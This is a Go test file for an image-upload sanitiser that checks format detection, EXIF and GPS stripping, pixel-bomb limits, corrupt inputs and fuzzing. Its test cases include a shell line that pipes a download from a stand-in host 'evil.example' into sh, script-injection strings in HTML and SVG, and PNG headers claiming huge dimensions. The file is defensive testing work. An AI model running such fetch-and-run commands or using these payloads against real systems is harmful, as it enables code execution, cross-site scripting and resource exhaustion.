package imagesafe

import (
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/image/webp"
)

// mustPNG encodes a w x h gradient; with alpha, its corners are transparent.
func mustPNG(t testing.TB, w, h int, alpha bool) []byte {
	t.Helper()
	img := image.NewNRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			a := uint8(255)
			if alpha && (x < w/4 && y < h/4) {
				a = 0
			}
			img.SetNRGBA(x, y, color.NRGBA{uint8(x), uint8(y), 99, a})
		}
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func mustJPEG(t testing.TB, w, h int) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			img.SetRGBA(x, y, color.RGBA{uint8(x * 3), uint8(y * 5), uint8(x ^ y), 255})
		}
	}
	var b bytes.Buffer
	if err := jpeg.Encode(&b, img, &jpeg.Options{Quality: 90}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func mustGIF(t testing.TB) []byte {
	t.Helper()
	img := image.NewPaletted(image.Rect(0, 0, 8, 8), color.Palette{color.Black, color.White})
	var b bytes.Buffer
	if err := gif.Encode(&b, img, nil); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func mustRead(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

const gpsMarker = "GPS 48.8584N 2.2945E secret-place"

// withExif inserts, after SOI, an APP1 Exif segment whose IFD0 points to a
// GPS IFD (GPSLatitudeRef "N") and carries an ImageDescription holding
// gpsMarker.
func withExif(t testing.TB, jpg []byte) []byte {
	t.Helper()
	var tiff bytes.Buffer
	be := binary.BigEndian
	w16 := func(v uint16) { _ = binary.Write(&tiff, be, v) }
	w32 := func(v uint32) { _ = binary.Write(&tiff, be, v) }
	tiff.WriteString("MM")
	w16(42)
	w32(8) // IFD0 at 8
	// IFD0: 2 entries (12 bytes each) + next-IFD offset: 2+24+4 = 30 bytes, ends at 38.
	desc := gpsMarker + "\x00"
	gpsIFD := uint32(38 + len(desc))
	w16(2)
	w16(0x010e) // ImageDescription, ASCII
	w16(2)
	w32(uint32(len(desc)))
	w32(38)
	w16(0x8825) // GPSInfo IFD pointer, LONG
	w16(4)
	w32(1)
	w32(gpsIFD)
	w32(0)
	tiff.WriteString(desc)
	// GPS IFD: GPSLatitudeRef = "N".
	w16(1)
	w16(0x0001)
	w16(2)
	w32(2)
	tiff.Write([]byte{'N', 0, 0, 0})
	w32(0)

	payload := append([]byte("Exif\x00\x00"), tiff.Bytes()...)
	seg := []byte{0xff, 0xe1, 0, 0}
	binary.BigEndian.PutUint16(seg[2:], uint16(len(payload)+2))
	seg = append(seg, payload...)
	out := append([]byte{}, jpg[:2]...)
	out = append(out, seg...)
	return append(out, jpg[2:]...)
}

// pngChunk returns a PNG chunk with a correct CRC.
func pngChunk(typ string, data []byte) []byte {
	var b bytes.Buffer
	_ = binary.Write(&b, binary.BigEndian, uint32(len(data)))
	b.WriteString(typ)
	b.Write(data)
	_ = binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(append([]byte(typ), data...)))
	return b.Bytes()
}

// pngClaiming is a ~1 KB PNG whose valid IHDR claims w x h pixels.
func pngClaiming(w, h uint32) []byte {
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], w)
	binary.BigEndian.PutUint32(ihdr[4:], h)
	ihdr[8], ihdr[9] = 8, 6 // 8-bit RGBA
	out := []byte("\x89PNG\r\n\x1a\n")
	out = append(out, pngChunk("IHDR", ihdr)...)
	out = append(out, pngChunk("IDAT", bytes.Repeat([]byte{0x78}, 1000))...)
	return append(out, pngChunk("IEND", nil)...)
}

// endless yields n bytes: a PNG signature, then zeros, without holding them.
type endless struct{ n, read int64 }

func (e *endless) Read(p []byte) (int, error) {
	if e.read >= e.n {
		return 0, io.EOF
	}
	k := int64(len(p))
	k = min(k, e.n-e.read)
	for i := range p[:k] {
		p[i] = 0
		if off := e.read + int64(i); off < 8 {
			p[i] = "\x89PNG\r\n\x1a\n"[off]
		}
	}
	e.read += k
	return int(k), nil
}

func TestProcess(t *testing.T) {
	png300x200 := mustPNG(t, 300, 200, false)
	jpg := mustJPEG(t, 1024, 768)
	tests := []struct {
		name     string
		in       []byte
		opts     Options
		wantErr  error
		wantType string
		wantSide int
		wantSrc  string
	}{
		{"png opaque becomes jpeg", png300x200, Options{}, nil, ContentTypeJPEG, 200, "png"},
		{"png with alpha stays png", mustPNG(t, 400, 400, true), Options{}, nil, ContentTypePNG, 256, "png"},
		{"png forced png", png300x200, Options{Format: FormatPNG}, nil, ContentTypePNG, 200, "png"},
		{"png alpha forced jpeg", mustPNG(t, 64, 64, true), Options{Format: FormatJPEG}, nil, ContentTypeJPEG, 64, "png"},
		{"jpeg scaled down", jpg, Options{}, nil, ContentTypeJPEG, 256, "jpeg"},
		{"jpeg custom size", jpg, Options{OutputSize: 64}, nil, ContentTypeJPEG, 64, "jpeg"},
		{"jpeg with exif gps", withExif(t, mustJPEG(t, 64, 48)), Options{}, nil, ContentTypeJPEG, 48, "jpeg"},
		{"webp lossy", mustRead(t, "photo.webp"), Options{}, nil, ContentTypeJPEG, 32, "webp"},
		{"webp lossy with alpha", mustRead(t, "alpha.webp"), Options{}, nil, ContentTypePNG, 32, "webp"},
		{"webp lossless with alpha", mustRead(t, "lossless.webp"), Options{}, nil, ContentTypePNG, 32, "webp"},
		{"png with trailing html", append(mustPNG(t, 40, 40, false), "<html><script>alert(1)</script></html>"...), Options{}, nil, ContentTypeJPEG, 40, "png"},
		{"1x1 png", mustPNG(t, 1, 1, false), Options{}, nil, ContentTypeJPEG, 1, "png"},

		{"empty", nil, Options{}, ErrUnsupportedType, "", 0, ""},
		{"script renamed png", []byte("#!/bin/sh\ncurl evil.example | sh\n"), Options{}, ErrUnsupportedType, "", 0, ""},
		{"html first then png", append([]byte("<html><script>alert(1)</script></html>"), mustPNG(t, 8, 8, false)...), Options{}, ErrUnsupportedType, "", 0, ""},
		{"svg with script", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), Options{}, ErrUnsupportedType, "", 0, ""},
		{"gif", mustGIF(t), Options{}, ErrUnsupportedType, "", 0, ""},
		{"riff but not webp", []byte("RIFF\x10\x00\x00\x00AVI LIST\x00\x00\x00\x00"), Options{}, ErrUnsupportedType, "", 0, ""},
		{"png magic only", []byte("\x89PNG\r\n\x1a\n"), Options{}, ErrCorrupt, "", 0, ""},
		{"png claims 100000x100000", pngClaiming(100000, 100000), Options{}, ErrTooManyPixels, "", 0, ""},
		{"png claims 4097 wide", pngClaiming(4097, 10), Options{}, ErrTooManyPixels, "", 0, ""},
		{"png claims 2^32-1", pngClaiming(0xffffffff, 1), Options{}, ErrTooManyPixels, "", 0, ""},
		{"png over custom limit", png300x200, Options{MaxWidth: 100}, ErrTooManyPixels, "", 0, ""},
		{"png over pixel budget", png300x200, Options{MaxPixels: 300*200 - 1}, ErrTooManyPixels, "", 0, ""},
		{"png within pixel budget", png300x200, Options{MaxPixels: 300 * 200}, nil, ContentTypeJPEG, 200, "png"},
		{"progressive jpeg header claiming 4096x4096", progressiveClaim(t, 4096, 4096), Options{MaxPixels: 1 << 20}, ErrTooManyPixels, "", 0, ""},
		{"png zero width", pngClaiming(0, 10), Options{}, ErrBadDimensions, "", 0, ""},
		{"png claims fit, data junk", pngClaiming(100, 100), Options{}, ErrCorrupt, "", 0, ""},
		{"jpeg zero height", jpegZeroHeight(t), Options{}, ErrBadDimensions, "", 0, ""},
		{"truncated png", png300x200[:len(png300x200)/2], Options{}, ErrCorrupt, "", 0, ""},
		{"truncated jpeg", jpg[:len(jpg)/2], Options{}, ErrCorrupt, "", 0, ""},
		{"truncated webp", mustRead(t, "photo.webp")[:100], Options{}, ErrCorrupt, "", 0, ""},
		{"over max bytes", png300x200, Options{MaxBytes: 100}, ErrTooLarge, "", 0, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := Process(bytes.NewReader(tt.in), tt.opts)
			if tt.wantErr != nil {
				if !errors.Is(err, tt.wantErr) {
					t.Fatalf("Process = %v, want %v", err, tt.wantErr)
				}
				if res.Data != nil {
					t.Fatal("data returned with an error")
				}
				return
			}
			if err != nil {
				t.Fatalf("Process: %v", err)
			}
			if res.ContentType != tt.wantType || res.Width != tt.wantSide || res.Height != tt.wantSide || res.Source != tt.wantSrc {
				t.Fatalf("got %s %dx%d from %s, want %s %dx%d from %s", res.ContentType, res.Width, res.Height, res.Source, tt.wantType, tt.wantSide, tt.wantSide, tt.wantSrc)
			}
			mustBeClean(t, res, tt.in)
		})
	}
}

// mustBeClean checks that res is a fresh image of the stated type and size,
// with the right hash, carrying nothing of the input's extras.
func mustBeClean(t *testing.T, res Result, in []byte) {
	t.Helper()
	sum := sha256.Sum256(res.Data)
	if res.SHA256 != hex.EncodeToString(sum[:]) {
		t.Error("SHA256 does not match Data")
	}
	var cfg image.Config
	var format string
	var err error
	switch res.ContentType {
	case ContentTypePNG:
		cfg, err = png.DecodeConfig(bytes.NewReader(res.Data))
		format = "png"
	case ContentTypeJPEG:
		cfg, err = jpeg.DecodeConfig(bytes.NewReader(res.Data))
		format = "jpeg"
	}
	if err != nil || cfg.Width != res.Width || cfg.Height != res.Height {
		t.Fatalf("output is not a %dx%d %s: %v %+v", res.Width, res.Height, format, err, cfg)
	}
	for _, bad := range []string{"Exif", "GPS", "secret-place", "<script", "<html", "MM\x00\x2a"} {
		if bytes.Contains(res.Data, []byte(bad)) {
			t.Errorf("output contains %q", bad)
		}
	}
	if len(in) > 0 && bytes.Equal(res.Data, in) {
		t.Error("output is the input")
	}
	if res.ContentType == ContentTypeJPEG && !bytes.HasSuffix(res.Data, []byte{0xff, 0xd9}) {
		t.Error("JPEG output has trailing data")
	}
	if res.ContentType == ContentTypePNG && !bytes.HasSuffix(res.Data, pngChunk("IEND", nil)) {
		t.Error("PNG output has trailing data")
	}
}

// jpegZeroHeight is a JPEG whose SOF0 declares a height of 0.
func jpegZeroHeight(t testing.TB) []byte {
	t.Helper()
	b := mustJPEG(t, 16, 16)
	i := bytes.Index(b, []byte{0xff, 0xc0})
	if i < 0 {
		t.Fatal("no SOF0")
	}
	b = append([]byte{}, b...)
	b[i+5], b[i+6] = 0, 0 // length(2) precision(1) then height
	return b
}

// progressiveClaim is a tiny progressive (SOF2) JPEG that claims w x h
// pixels and carries almost no data.
func progressiveClaim(t testing.TB, w, h int) []byte {
	t.Helper()
	b := append([]byte{}, mustJPEG(t, 16, 16)...)
	i := bytes.Index(b, []byte{0xff, 0xc0})
	b[i+1] = 0xc2
	binary.BigEndian.PutUint16(b[i+5:], uint16(h))
	binary.BigEndian.PutUint16(b[i+7:], uint16(w))
	j := bytes.Index(b, []byte{0xff, 0xda})
	n := int(binary.BigEndian.Uint16(b[j+2:]))
	b[j+2+n-3], b[j+2+n-2] = 0, 0 // a DC-only first scan
	return b
}

func TestProcessExifInputReallyHasGPS(t *testing.T) {
	// Guard the fixture: the input must carry what the output must not.
	in := withExif(t, mustJPEG(t, 64, 48))
	for _, want := range []string{"Exif\x00\x00", gpsMarker} {
		if !bytes.Contains(in, []byte(want)) {
			t.Fatalf("fixture lacks %q", want)
		}
	}
	if _, err := jpeg.DecodeConfig(bytes.NewReader(in)); err != nil {
		t.Fatalf("fixture is not a valid JPEG: %v", err)
	}
}

func TestProcessStopsReadingAtTheLimit(t *testing.T) {
	r := &endless{n: 50 << 20}
	_, err := Process(r, Options{})
	if !errors.Is(err, ErrTooLarge) {
		t.Fatalf("Process(50 MB) = %v, want ErrTooLarge", err)
	}
	if r.read > DefaultMaxBytes+1 {
		t.Fatalf("read %d bytes, want at most %d", r.read, DefaultMaxBytes+1)
	}
}

func TestProcessCropsTheCentre(t *testing.T) {
	// Three vertical bands, red | green | blue: the centred square is green.
	img := image.NewRGBA(image.Rect(0, 0, 300, 100))
	for y := range 100 {
		for x := range 300 {
			c := color.RGBA{0, 255, 0, 255}
			if x < 100 {
				c = color.RGBA{255, 0, 0, 255}
			} else if x >= 200 {
				c = color.RGBA{0, 0, 255, 255}
			}
			img.SetRGBA(x, y, c)
		}
	}
	var in bytes.Buffer
	if err := png.Encode(&in, img); err != nil {
		t.Fatal(err)
	}
	res, err := Process(&in, Options{Format: FormatPNG, OutputSize: 50})
	if err != nil {
		t.Fatal(err)
	}
	out, err := png.Decode(bytes.NewReader(res.Data))
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []image.Point{{0, 0}, {49, 0}, {25, 25}, {0, 49}, {49, 49}} {
		r, g, b, _ := out.At(p.X, p.Y).RGBA()
		if g < 0xf000 || r > 0x1000 || b > 0x1000 {
			t.Errorf("pixel %v = %x %x %x, want green", p, r, g, b)
		}
	}
}

func TestProcessIsDeterministic(t *testing.T) {
	in := mustJPEG(t, 300, 300)
	a, err := Process(bytes.NewReader(in), Options{})
	if err != nil {
		t.Fatal(err)
	}
	b, err := Process(bytes.NewReader(in), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if a.SHA256 != b.SHA256 || a.Ext() != ".jpg" {
		t.Fatalf("hashes %s %s, ext %s", a.SHA256, b.SHA256, a.Ext())
	}
}

func TestTestdataWebPIsWebP(t *testing.T) {
	for _, name := range []string{"photo.webp", "alpha.webp", "lossless.webp"} {
		if _, err := webp.Decode(bytes.NewReader(mustRead(t, name))); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestOptionsDefaults(t *testing.T) {
	tests := []struct {
		in, want Options
	}{
		{Options{}, Options{MaxBytes: DefaultMaxBytes, MaxWidth: 4096, MaxHeight: 4096, MaxPixels: 4096 * 4096, OutputSize: 256, JPEGQuality: 85}},
		{Options{MaxBytes: -1, OutputSize: 1 << 20, JPEGQuality: 101}, Options{MaxBytes: DefaultMaxBytes, MaxWidth: 4096, MaxHeight: 4096, MaxPixels: 4096 * 4096, OutputSize: MaxOutputSize, JPEGQuality: 85}},
		{Options{MaxBytes: 10, MaxWidth: 5, MaxHeight: 6, MaxPixels: 20, OutputSize: 7, JPEGQuality: 50, Format: FormatPNG}, Options{MaxBytes: 10, MaxWidth: 5, MaxHeight: 6, MaxPixels: 20, OutputSize: 7, JPEGQuality: 50, Format: FormatPNG}},
	}
	for _, tt := range tests {
		if got := tt.in.withDefaults(); got != tt.want {
			t.Errorf("withDefaults(%+v) = %+v, want %+v", tt.in, got, tt.want)
		}
	}
}

func FuzzProcess(f *testing.F) {
	f.Add(mustPNG(f, 20, 10, false))
	f.Add(mustPNG(f, 9, 9, true))
	f.Add(mustJPEG(f, 16, 24))
	f.Add(withExif(f, mustJPEG(f, 8, 8)))
	f.Add(mustRead(f, "photo.webp"))
	f.Add(mustRead(f, "alpha.webp"))
	f.Add(mustRead(f, "lossless.webp"))
	f.Add(mustGIF(f))
	f.Add(pngClaiming(100000, 100000))
	f.Add([]byte("<svg><script>alert(1)</script></svg>"))
	// Small limits keep each run cheap; memory is bounded by them.
	opts := Options{MaxBytes: 64 << 10, MaxWidth: 512, MaxHeight: 512, OutputSize: 32}
	f.Fuzz(func(t *testing.T, in []byte) {
		res, err := Process(bytes.NewReader(in), opts)
		if err != nil {
			for _, known := range []error{ErrTooLarge, ErrUnsupportedType, ErrTooManyPixels, ErrBadDimensions, ErrCorrupt} {
				if errors.Is(err, known) {
					return
				}
			}
			t.Fatalf("unclassified error: %v", err)
		}
		if res.Width < 1 || res.Width > 32 || res.Width != res.Height {
			t.Fatalf("size %dx%d", res.Width, res.Height)
		}
		var dec func(io.Reader) (image.Image, error)
		switch res.ContentType {
		case ContentTypePNG:
			dec = png.Decode
		case ContentTypeJPEG:
			dec = jpeg.Decode
		default:
			t.Fatalf("content type %q", res.ContentType)
		}
		if _, err := dec(bytes.NewReader(res.Data)); err != nil {
			t.Fatalf("output does not decode: %v", err)
		}
		if strings.Contains(string(res.Data), "<script") {
			t.Fatal("payload survived")
		}
	})
}

func BenchmarkProcessJPEG(b *testing.B) {
	in := mustJPEG(b, 1024, 1024)
	b.SetBytes(int64(len(in)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Process(bytes.NewReader(in), Options{}); err != nil {
			b.Fatal(err)
		}
	}
}
